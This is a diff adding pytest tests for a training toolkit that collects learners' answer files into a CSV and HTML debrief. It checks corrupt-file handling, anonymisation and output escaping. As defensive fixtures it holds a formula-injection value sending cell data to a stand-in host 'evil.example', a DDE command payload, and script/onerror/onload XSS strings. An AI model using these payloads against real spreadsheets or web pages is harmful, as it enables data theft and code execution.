@@ -1,0 +1,210 @@
+"""Cohort collection over good, corrupt and hostile answer files: what a trainer gets."""
+
+from __future__ import annotations
+
+import csv
+import json
+import shutil
+from html.parser import HTMLParser
+from pathlib import Path
+
+import pytest
+
+from toolkit import cohort
+from toolkit.cli import main
+from toolkit.errors import ToolkitError
+
+ANSWERS = Path(__file__).parent / "data" / "answers"
+DEFS = ANSWERS / "exercises"
+DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
+
+EXPECTED_SKIPPED = [
+    "corrupt/90-demo-all-types.corrupt-20261120T101500000000Z.json: was set aside earlier "
+    "because it could not be read",
+    'corrupt/bad-attempts.json: answer "90-confidence": "attempts" is -1, expected a whole '
+    "number >= 0",
+    "corrupt/binary.json: is not UTF-8 text (not an answer file)",
+    "corrupt/deeply-nested.json: is not valid JSON (too deeply nested or too large a number)",
+    "corrupt/empty.json: is empty",
+    "corrupt/newer-schema.json: it was written by a newer Every Call (schema version 7; this "
+    "toolkit reads up to 1): update the toolkit",
+    'corrupt/package.json: it has no "format": "everycall-answers" (not an answer file)',
+    "corrupt/truncated.json: is not valid JSON (line 1, column 145)",
+]
+
+
+@pytest.fixture(scope="module")
+def collected(tmp_path_factory):
+    out = tmp_path_factory.mktemp("debrief") / "cohort-summary.csv"
+    return cohort.collect(ANSWERS, out=out, exercises_dir=DEFS)
+
+
+def _cells(path: Path) -> list[list[str]]:
+    with path.open(encoding="utf-8-sig", newline="") as handle:
+        return list(csv.reader(handle))
+
+
+class _Tags(HTMLParser):
+    def __init__(self) -> None:
+        super().__init__()
+        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
+        self.scripts: list[str] = []
+        self.text = ""
+        self._in_script = False
+
+    def handle_starttag(self, tag, attrs):
+        self.tags.append((tag, attrs))
+        self._in_script = tag == "script"
+        if self._in_script:
+            self.scripts.append("")
+
+    def handle_endtag(self, tag):
+        if tag == "script":
+            self._in_script = False
+
+    def handle_data(self, data):
+        if self._in_script:
+            self.scripts[-1] += data
+        else:
+            self.text += data
+
+
+def test_bad_and_foreign_files_are_reported_and_skipped(collected):
+    assert collected.skipped == EXPECTED_SKIPPED
+    assert collected.files_read == 6  # 3 good, 3 hostile; profile.json and notes.txt ignored
+    assert "Skipped 8 file(s)" in collected.summary()
+
+
+def test_good_answers_are_summarised_and_marked_again(collected):
+    rows = {(r["learner"], r["exercise_id"]): r for r in collected.rows}
+    assert rows[("Amira", "90-dvpo-hearing")]["correct"] == "yes"
+    assert rows[("Ben", "90-dash-threshold")]["response"] == "10"
+    # Chloe's file claims her wrong answer was right; the current key decides.
+    assert rows[("Chloe", "90-dvpo-hearing")]["correct"] == "no"
+    assert rows[("Amira", "90-dhr-steps")]["response"].count(" > ") == 3
+    flags = [r for r in collected.rows if r["type"] == "flag" and r["learner"] == "Ben"]
+    assert [f["response"] for f in flags] == ["E07", "E11"]
+    table = cohort.summary_table(cohort.load_summary(collected.csv_path)).set_index("exercise_id")
+    assert table.loc["90-dvpo-hearing", "answered"] == 4
+    assert table.loc["90-dvpo-hearing", "right"] == 1
+
+
+def test_csv_cells_cannot_run_as_formulas(collected):
+    cells = [c for row in _cells(collected.csv_path) for c in row]
+    risky = [c for c in cells if c.lstrip().startswith(DANGEROUS) or c.startswith(("\t", "\r"))]
+    assert risky == []
+    assert '\'=HYPERLINK("http://evil.example/?"&A1,"Open me")' in cells
+    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
+    assert "'-3" in cells and "'+SUM(A1:A9)" in cells and "'=1+1" in cells
+
+
+def test_csv_reads_back_exactly(collected):
+    frame = cohort.load_summary(collected.csv_path)
+    assert frame.to_dict("records") == [{c: r[c] for c in cohort.COLUMNS} for r in collected.rows]
+    assert '=HYPERLINK("http://evil.example/?"&A1,"Open me")' in set(frame["learner"])
+
+
+def test_debrief_page_has_no_live_script_from_learners(collected):
+    page = collected.html_path.read_text(encoding="utf-8")
+    parser = _Tags()
+    parser.feed(page)
+    assert {tag for tag, _ in parser.tags}.isdisjoint({"img", "svg", "iframe", "object"})
+    assert not [a for _, attrs in parser.tags for a, _ in attrs if a.startswith("on")]
+    for script in parser.scripts:
+        assert "alert(" not in script and "</script" not in script.lower()
+    assert "&lt;script&gt;alert(&#x27;free text&#x27;)&lt;/script&gt;" in page
+    assert "&lt;img src=x onerror=alert(1)&gt;" in page
+    assert "&lt;svg onload=alert(&#x27;flag&#x27;)&gt;" in page
+
+
+def test_debrief_page_works_offline_with_plotly_inline_once(collected):
+    page = collected.html_path.read_text(encoding="utf-8")
+    parser = _Tags()
+    parser.feed(page)
+    sources = [dict(attrs).get("src") for tag, attrs in parser.tags if tag == "script"]
+    assert sources and all(src is None for src in sources)
+    assert page.count("plotly.js v") == 1
+    assert page.count("Plotly.newPlot(") == 6  # 5 charted exercises and one case's flags
+    assert page.startswith("<!DOCTYPE html>") and '<html lang="en-GB">' in page
+
+
+def test_anonymise_hides_names_and_file_paths(tmp_path):
+    result = cohort.collect(ANSWERS, out=tmp_path / "anon.csv", anonymise=True, exercises_dir=DEFS)
+    text = (tmp_path / "anon.csv").read_text(encoding="utf-8-sig")
+    parser = _Tags()
+    parser.feed((tmp_path / "anon.html").read_text(encoding="utf-8"))
+    page = parser.text  # what a reader sees, not plotly.js (which has "isSegmentBent")
+    for name in ("Amira", "Ben", "Chloe", "HYPERLINK", "Tabbed", "amira/"):
+        assert name not in text and name not in page
+    assert "Learner 1" in page
+    assert result.learners == [f"Learner {i}" for i in range(1, 7)]
+    assert {r["file"] for r in result.rows} == {f"file {i}" for i in range(1, 7)}
+
+
+def test_second_file_for_the_same_learner_keeps_the_newer(tmp_path):
+    folder = tmp_path / "in"
+    shutil.copytree(ANSWERS / "good", folder)
+    copy = json.loads((folder / "ben" / "90-demo-all-types.json").read_text())
+    copy["updated"] = "2026-11-21T09:00:00+00:00"
+    copy["answers"]["90-confidence"]["value"] = "Very"
+    (folder / "ben-again.json").write_text(json.dumps(copy))
+    result = cohort.gather(folder, exercises_dir=DEFS)
+    assert result.skipped == [
+        "ben/90-demo-all-types.json: a second file for Ben, 90-demo-all-types; kept the newer "
+        "one (ben-again.json)"
+    ]
+    (ben,) = [r for r in result.rows if r["learner"] == "Ben" and r["type"] == "confidence"]
+    assert ben["response"] == "Very"
+
+
+def test_oversized_file_is_skipped_unread(tmp_path):
+    (tmp_path / "huge.json").write_bytes(b" " * (cohort.MAX_FILE_BYTES + 1))
+    result = cohort.gather(tmp_path)
+    assert result.skipped == ["huge.json: is 2.0 MB, larger than any answer file (limit 2 MB)"]
+
+
+def test_empty_folder_writes_an_empty_summary_and_says_so(tmp_path):
+    result = cohort.collect(tmp_path, out=tmp_path / "s.csv")
+    assert "No answer files were found" in result.summary()
+    assert _cells(tmp_path / "s.csv") == [list(cohort.COLUMNS)]
+
+
+def test_cli_collects_and_lists_skipped_files(tmp_path, capsys, monkeypatch):
+    monkeypatch.chdir(tmp_path)
+    assert main(["answers", "collect", str(ANSWERS / "corrupt")]) == 0
+    out, err = capsys.readouterr()
+    assert "skipped: corrupt/empty.json: is empty" not in err  # names are relative to DIR
+    assert "skipped: empty.json: is empty" in err
+    assert f"Summary: {tmp_path / 'cohort-summary.csv'}" in out
+    assert (tmp_path / "cohort-summary.html").is_file()
+
+
+def test_cli_missing_folder_is_one_clear_message(tmp_path, capsys):
+    assert main(["answers", "collect", str(tmp_path / "nope")]) == 2
+    err = capsys.readouterr().err
+    assert err.strip() == (
+        f"everycall answers: {tmp_path / 'nope'} is not a folder: expected "
+        "the folder that holds learners' answer files (.json)"
+    )
+
+
+def test_out_must_be_a_csv(tmp_path):
+    with pytest.raises(ToolkitError, match="expected a file name ending in .csv"):
+        cohort.collect(ANSWERS / "good", out=tmp_path / "summary.xlsx")
+    assert list(tmp_path.iterdir()) == []
+
+
+def test_demo_cohort_feeds_the_debrief_notebook():
+    frame = cohort.demo_summary(learners=4)
+    assert set(frame["learner"]) == {"Amira", "Ben", "Chloe", "Dev"}
+    charts = dict(cohort.figures(frame))
+    assert "00-stepping-away" in charts and "00-confidence" in charts
+    bars = charts["00-stepping-away"].data[0]
+    assert sum(bars.x) == 4
+
+
+def test_load_summary_names_a_missing_column(tmp_path):
+    bad = tmp_path / "other.csv"
+    bad.write_text("learner,score\nSam,3\n")
+    with pytest.raises(ToolkitError, match='column "notebook" is missing; expected the columns'):
+        cohort.load_summary(bad)
